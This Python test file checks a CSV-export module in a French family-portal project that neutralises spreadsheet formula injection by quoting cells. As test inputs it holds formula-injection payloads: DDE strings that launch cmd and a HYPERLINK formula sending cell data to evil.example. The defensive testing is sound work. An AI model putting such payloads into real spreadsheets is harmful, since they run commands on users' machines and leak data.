"""CSV written for spreadsheets: formula-looking text is neutralised, everything else comes back as written."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest

from espace_famille import csvsafe


@pytest.mark.parametrize(
    "value",
    [
        "=1+1",
        '=HYPERLINK("https://evil.example/?"&A1;"Cliquez")',
        "+33 6 12 34 56 78",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "\0=1+1",
    ],
)
def test_text_that_opens_as_a_formula_gets_a_leading_quote(value):
    assert csvsafe.neutralise(value) == "'" + value
    assert csvsafe.cell(value) == "'" + value


@pytest.mark.parametrize("value", ["Mme MARTIN Sophie (née DUPONT)", "a=b", "1+1", " =1", "'déjà", "", "€ 5"])
def test_other_text_is_left_as_it_is(value):
    assert csvsafe.neutralise(value) == value


def test_numbers_stay_numbers_and_none_is_empty():
    assert [csvsafe.cell(v) for v in (-500, Decimal("-5.00"), 0, None, True)] == ["-500", "-5.00", "0", "", "oui"]
    # A string is always text, even one that reads as a number: the caller passes numbers as numbers.
    assert csvsafe.cell("-5,00") == "'-5,00"


def test_every_cell_is_quoted_and_reads_back_as_written():
    rows = [
        ["=cmd|' /C calc'!A0", 'il a dit "bonjour"; puis', -1250, None],
        ["ligne 1\nligne 2", "@x", Decimal("41.85"), "Zoé"],
    ]
    text = csvsafe.text(["nom", "=entete", "montant", "vide"], rows)
    assert text.startswith('"nom";"\'=entete";"montant";"vide"\r\n')
    assert '"\'=cmd|\' /C calc\'!A0";"il a dit ""bonjour""; puis";"-1250";""\r\n' in text
    back = list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))
    assert back == [
        ["nom", "'=entete", "montant", "vide"],
        ["'=cmd|' /C calc'!A0", 'il a dit "bonjour"; puis', "-1250", ""],
        ["ligne 1\nligne 2", "'@x", "41.85", "Zoé"],
    ]


def test_write_counts_rows():
    out = io.StringIO()
    assert csvsafe.write(out, ["a"], iter([["1"], ["2"]])) == 2
    assert out.getvalue().count("\r\n") == 3


def test_the_import_report_as_csv_neutralises_what_a_file_put_in_it():
    from espace_famille.importer.engine import Report

    report = Report(file="x.jsonl")
    report.reject(3, "invoice", "=cmd|' /C calc'!A0", "champ inconnu")
    report.warn(2, "invoice", "amount", "les lignes de la facture R totalisent 1,00 € pour un montant de 2,00 €")
    back = list(csv.reader(io.StringIO(report.as_csv(), newline=""), delimiter=";"))
    assert back == [
        ["ligne", "niveau", "type", "champ", "raison"],
        [
            "2",
            "avertissement",
            "invoice",
            "amount",
            "les lignes de la facture R totalisent 1,00 € pour un montant de 2,00 €",
        ],
        ["3", "erreur", "invoice", "'=cmd|' /C calc'!A0", "champ inconnu"],
    ]


def test_no_csv_is_written_but_through_csvsafe():
    """Every CSV this project writes is neutralised: no other module builds a csv writer of its own."""
    from tests.support import ROOT

    offenders = [
        str(path.relative_to(ROOT))
        for folder in ("shared", "functions", "infra")
        for path in (ROOT / folder).rglob("*.py")
        if path.name != "csvsafe.py"
        and any(w in path.read_text(encoding="utf-8") for w in ("csv.writer(", "csv.DictWriter(", "writerow("))
    ]
    assert offenders == []
